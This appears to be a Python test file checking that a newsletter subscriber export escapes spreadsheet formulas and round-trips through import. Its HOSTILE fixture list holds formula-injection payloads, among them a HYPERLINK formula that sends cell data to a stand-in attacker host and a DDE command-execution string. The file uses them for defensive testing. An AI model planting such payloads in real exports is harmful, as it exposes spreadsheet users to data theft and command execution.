"""Exports open safely in a spreadsheet (no cell runs as a formula) and import back as
the same list."""

from __future__ import annotations

import csv
import io
from pathlib import Path

from hypothesis import example, given
from hypothesis import strategies as st
from sqlalchemy.engine import Engine
from sqlmodel import Session, select

from digest.audience import csv_import, export, reports
from digest.audience.spreadsheet import FORMULA_START, cell, uncell
from digest.store.models import Subscriber

# Addresses and names a stranger can type into the sign-up form (each address is valid).
HOSTILE = [
    ("=cmd@example.org", "=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")"),
    ("+sum@example.org", "+1+2"),
    ("-minus@example.org", "-2+3"),
    ("plain@example.org", "@SUM(1+1)"),
    ("dde@example.org", "-cmd|' /C calc'!A0"),
    ("ok@example.org", "Siân 'Evans' = fine"),
]


@given(st.text(alphabet="'=+-@\t\rab ") | st.text())
@example("'=1+1")  # already quoted by someone: it must still read back as it was
@example("''-x")
@example("'Twm")  # an apostrophe before a letter is left alone
def test_a_cell_reads_back_as_it_was_and_never_starts_a_formula(value: str) -> None:
    written = cell(value)
    assert not written.startswith(FORMULA_START)
    assert uncell(written) == value
    if not value.startswith(("'", *FORMULA_START)):
        assert written == value  # nothing else changes


def test_an_export_of_hostile_names_runs_nothing_and_imports_back(
        session: Session, engine: Engine, tmp_path: Path) -> None:
    source = tmp_path / "hostile.csv"
    with source.open("w", encoding="utf-8", newline="") as f:
        out = csv.writer(f)
        out.writerow(["email", "name", "language"])
        out.writerows([email, name, "cy"] for email, name in HOSTILE)
    csv_import.import_file(session, source)
    session.commit()
    stored = {s.email: s.name for s in session.exec(select(Subscriber))}
    assert stored == dict(HOSTILE)

    exported = "".join(export.stream_csv(engine))
    cells = [c for row in csv.reader(io.StringIO(exported)) for c in row]
    assert [c for c in cells if c.startswith(FORMULA_START)] == []

    again = tmp_path / "export.csv"
    again.write_text(exported, encoding="utf-8")
    rows, _, errors = csv_import.read_csv(again)  # what an import of the export would store
    assert errors == [] and {r.email: r.name for r in rows} == stored


def test_a_reports_csv_key_never_starts_a_formula() -> None:
    report = reports.Report(kind="issue", subject="2026-09")
    report.table("links").line("=HYPERLINK(\"x\")").cy = 1
    rows = list(csv.reader(io.StringIO(reports.to_csv(report))))
    assert rows[1][:3] == ["links", "'=HYPERLINK(\"x\")", "1"]
